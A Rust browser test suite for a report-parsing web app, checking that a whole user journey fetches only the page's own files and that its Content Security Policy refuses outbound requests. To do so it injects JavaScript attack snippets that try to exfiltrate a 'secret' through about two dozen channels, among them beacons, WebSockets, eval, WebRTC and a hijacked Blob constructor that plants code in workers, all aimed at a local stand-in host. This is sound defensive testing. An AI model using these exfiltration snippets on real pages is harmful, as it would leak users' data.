//! Nothing leaves: every request of a whole journey is one for a file of the page, also when something in the page or
//! in a worker of it tries to send more.

use std::io::Read;
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use thirtyfour::error::WebDriverResult;

use crate::browser::{Page, journey_at};
use crate::exporting::{save_into, saved};
use crate::files::own;
use crate::many::{Folder, choose, done, report};
use crate::server::{built, start_with};

/// What came in somewhere.
type Log = Arc<Mutex<Vec<String>>>;

fn logged(log: &Log) -> Vec<String> {
    log.lock().expect("nobody broke").clone()
}

/// All of the world but the server of the page: whatever reaches it is written down.
#[expect(clippy::disallowed_methods, reason = "it listens")]
fn outside() -> (u16, Log) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    let port = listener.local_addr().expect("an address").port();
    let log = Log::default();
    let heard = Arc::clone(&log);
    thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
            // a name stands in the beginning of what is encrypted too
            let mut begun = [0; 4096];
            let length = stream.read(&mut begun).unwrap_or_default();
            let said = String::from_utf8_lossy(&begun[..length]);
            let said = said.replace(|char: char| char.is_control() || char == '\u{fffd}', "");
            heard.lock().expect("nobody broke").push(said);
        }
    });
    (port, log)
}

/// The page, from a server that writes down what it is asked for, in a browser for which every other name is the
/// outside.
fn watched<F>(journey: impl FnOnce(Page, u16) -> F) -> (Vec<String>, Vec<String>)
where
    F: Future<Output = WebDriverResult<Page>>,
{
    let (port, outside) = outside();
    let inside = Log::default();
    let asked = Arc::clone(&inside);
    let (address, _) = start_with("127.0.0.1:0", move |path| {
        asked.lock().expect("nobody broke").push(path.to_owned());
        Some(built())
    })
    .expect("the page is served");
    // those to which the browser itself turns, with whatever it is started, are left to it
    let makers = [
        "google.com",
        "googleapis.com",
        "gvt1.com",
        "gstatic.com",
        "googleusercontent.com",
        "duckduckgo.com",
    ];
    let others: String = makers.map(|maker| format!(", EXCLUDE *.{maker}")).concat();
    let names = format!("--host-resolver-rules=MAP * 127.0.0.1:{port}, EXCLUDE 127.0.0.1{others}");
    journey_at(&address, &[&names], |page| journey(page, port));
    (logged(&inside), logged(&outside))
}

/// What each way out is tried with: `out` is an address that answers, `tell` takes what came of it.
const WAYS: &str = "
    const waited = (begin) => new Promise((done, failed) => {
        const begun = begin();
        begun.onload = begun.onopen = done;
        begun.onerror = () => failed(new Error('refused'));
    });
    const ways = {
        fetch: () => fetch(out + 'fetch', { mode: 'no-cors' }),
        named: () => fetch('http://elsewhere.test/named', { mode: 'no-cors' }),
        post: () => fetch(out + 'post', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }),
        request: () => waited(() => {
            const request = new XMLHttpRequest();
            request.open('GET', out + 'request');
            request.send();
            return request;
        }),
        socket: () => waited(() => new WebSocket(out.replace('http', 'ws') + 'socket')),
        source: () => waited(() => new EventSource(out + 'source')),
        module: () => import(out + 'module'),
    };
    const tryAll = async (more) => {
        const outcomes = {};
        for (const [name, way] of Object.entries({ ...ways, ...more })) {
            try {
                await way();
                outcomes[name] = 'done';
            } catch (error) {
                outcomes[name] = 'refused';
            }
        }
        return outcomes;
    };";

/// Only for a worker.
const WAYS_OF_WORKERS: &str = "{
        script: async () => importScripts(out + 'script'),
        worker: async () => new Worker(URL.createObjectURL(new Blob([`fetch('${out}worker')`]))),
    }";

/// Only for a page.
const WAYS_OF_PAGES: &str = "{
        beacon: async () => { if (!navigator.sendBeacon(out + 'beacon', 'secret')) throw new Error('refused'); },
        picture: () => waited(() => Object.assign(new Image(), { src: out + 'picture' })),
        script: () => added('script', { src: out + 'script' }),
        frame: async () => { await Promise.race([added('iframe', { src: out + 'frame' }), pause()]); },
        sheet: () => added('link', { rel: 'stylesheet', href: out + 'sheet' }),
        early: async () => { await Promise.race([added('link', { rel: 'prefetch', href: out + 'early' }), pause()]); },
        preload: async () => { await Promise.race([added('link', { rel: 'preload', as: 'image', href: out + 'preload' }), pause()]); },
        connected: async () => { added('link', { rel: 'preconnect', href: out }); await pause(); },
        object: async () => { await Promise.race([added('object', { data: out + 'object' }), pause()]); },
        film: () => added('video', { src: out + 'film' }),
        background: async () => { document.body.style.backgroundImage = `url(${out}background)`; await pause(); },
        font: () => new FontFace('one', `url(${out}font)`).load(),
        form: async () => {
            const form = Object.assign(document.createElement('form'), { action: out + 'form', method: 'post', target: 'other' });
            document.body.append(form);
            form.submit();
            await pause();
        },
        ping: async () => {
            const link = Object.assign(document.createElement('a'), { href: '#ping', ping: out + 'ping' });
            document.body.append(link);
            link.click();
            await pause();
        },
        code: async () => eval(`fetch('${out}code')`),
        markup: async () => { document.createElement('p').innerHTML = `<img src=\"${out}markup\">`; },
        worker: async () => new Worker('data:text/javascript,fetch(%22' + out + 'worker%22)'),
        call: async () => {
            const servers = ['turn', 'stun'].map((kind) => `${kind}:127.0.0.1:${new URL(out).port}?transport=tcp`);
            const call = new RTCPeerConnection({ iceServers: [{ urls: servers[0], username: 'secret', credential: 'c' }] });
            call.createDataChannel('one');
            await call.setLocalDescription(await call.createOffer());
            await new Promise((done) => setTimeout(done, 2000));
        },
    }";

/// Has every worker of the page try each way out, before its own script is run.
fn attack_from_workers(port: u16) -> String {
    format!(
        "window.attacked = [];
        new BroadcastChannel('attack').onmessage = ({{ data }}) => window.attacked.push(data);
        const attack = `(() => {{
            const out = 'http://127.0.0.1:{port}/worker-';
            {}
            tryAll({}).then((outcomes) => new BroadcastChannel('attack').postMessage(outcomes));
        }})();`;
        window.Blob = class extends Blob {{
            constructor(parts, options) {{
                const isScript = options && options.type === 'text/javascript';
                super(isScript ? [attack, ...parts] : parts, options);
            }}
        }};",
        WAYS.replace('`', "\\`").replace('$', "\\$"),
        WAYS_OF_WORKERS.replace('`', "\\`").replace('$', "\\$"),
    )
}

fn attack_from_the_page(port: u16) -> String {
    format!(
        "const out = 'http://127.0.0.1:{port}/page-';
        const pause = () => new Promise((done) => setTimeout(done, 300));
        {WAYS}
        const added = (name, settings) => waited(() => {{
            const element = Object.assign(document.createElement(name), settings);
            document.body.append(element);
            return element;
        }});
        return tryAll({WAYS_OF_PAGES});"
    )
}

/// What a person does who uses all of the page.
async fn use_everything(page: &Page, folder: &Folder) -> WebDriverResult<()> {
    let into = folder.0.join("out");
    save_into(page, &into).await?;
    page.paste(
        "<p>甲局2023年政府信息公开工作年度报告<p>收到申请3件，其中自然人2件、企业2件。",
        "甲局2023年政府信息公开工作年度报告\n\n收到申请3件，其中自然人2件、企业2件。",
    )
    .await?;
    page.find(".card").await?;
    for name in ["report.docx", "report-office.pdf", "report-unembedded.pdf"] {
        page.click("#open-another").await?;
        page.find("#paste").await?;
        page.drop_file(name, &own(name)).await?;
        page.wait_for("#coverage", |text| text.contains("45 项"))
            .await?;
    }
    page.click("#tab-charts").await?;
    page.find(".chart svg").await?;
    page.click("#tab-report").await?;
    page.click("#share").await?;
    page.wait_run(
        "return document.querySelector('#share-link')?.value ?? ''",
        |link| link.as_str().is_some_and(|link| link.contains("#/r/")),
    )
    .await?;
    page.press("\u{e00c}").await?;
    page.click("#export").await?;
    page.click("#export-xlsx button").await?;
    saved(page, &into, ".xlsx").await?;
    page.press("\u{e00c}").await?;
    let files: Vec<_> = (0..6)
        .map(|number| folder.0.join(format!("in/{number}.txt")))
        .collect();
    page.click("#open-another").await?;
    choose(page, "#files", &files).await?;
    page.wait_run(
        "return document.querySelectorAll('.reports-row').length",
        |rows| rows.as_u64() >= Some(10),
    )
    .await?;
    done(page, 10).await.map(drop)
}

fn folder() -> Folder {
    let files = (0..6).map(|number| {
        let office = ["教育局", "财政局", "水务局", "民政局", "司法局", "审计局"][number];
        (format!("in/{number}.txt"), report(office, number % 2 == 0))
    });
    let folder = Folder::of(&files.collect::<Vec<_>>());
    std::fs::create_dir(folder.0.join("out")).expect("a folder");
    folder
}

#[track_caller]
fn assert_own(asked: &[String]) {
    assert!(!asked.is_empty());
    for path in asked {
        let is_own = path.is_empty() || (!path.contains('?') && built().join(path).is_file());
        assert!(is_own, "/{path} is no file of the page");
    }
}

#[test]
fn a_whole_journey_asks_for_nothing_but_the_files_of_the_page() {
    let folder = folder();
    let (asked, outside) = watched(|page, _| async {
        use_everything(&page, &folder).await?;
        Ok(page)
    });
    assert_own(&asked);
    assert!(outside.is_empty(), "{outside:?}");
    for part in [
        "office_bg",
        "pdf_bg",
        "pdf-cmaps_bg",
        "export_bg",
        "echarts",
        "web",
    ] {
        assert!(
            asked.iter().any(|path| path.starts_with(part)),
            "{part} was not wanted"
        );
    }
}

#[test]
fn what_something_in_the_page_or_in_its_workers_sends_is_refused() {
    let folder = folder();
    let (asked, outside) = watched(|page, port| async move {
        page.run(&attack_from_workers(port)).await?;
        use_everything(&page, &folder).await?;
        // several readers, and what makes files
        let attacked = page
            .wait_run("return window.attacked", |attacked| {
                attacked.as_array().is_some_and(|all| all.len() >= 4)
            })
            .await?;
        for outcomes in attacked.as_array().expect("a list") {
            let outcomes = outcomes.as_object().expect("outcomes");
            assert_eq!(outcomes.len(), 9);
            for (way, outcome) in outcomes {
                assert_eq!(outcome, "refused", "{way} from a worker");
            }
        }
        let outcomes = page.run(&attack_from_the_page(port)).await?;
        assert_eq!(
            outcomes.as_object().map(serde_json::Map::len),
            Some(25),
            "{outcomes}"
        );
        for way in [
            "fetch", "post", "socket", "module", "code", "markup", "call",
        ] {
            assert_eq!(outcomes[way], "refused", "{way}");
        }
        // the browser says of each what it kept it from, and by what
        let complaints = page.complaints().await?;
        let policy = |line: &String| {
            line.contains("Content Security Policy")
                || line.contains("This document requires")
                || line.contains("127.0.0.1")
                || line.contains("elsewhere.test")
        };
        let others: Vec<_> = complaints.iter().filter(|line| !policy(line)).collect();
        assert!(complaints.len() > 20 && others.is_empty(), "{others:?}");
        Ok(page)
    });
    // a browser that is told to connect early does so, but nobody can give it anything to say
    assert!(
        outside.len() <= 1 && outside.concat().is_empty(),
        "{outside:?}"
    );
    assert_own(&asked);
}
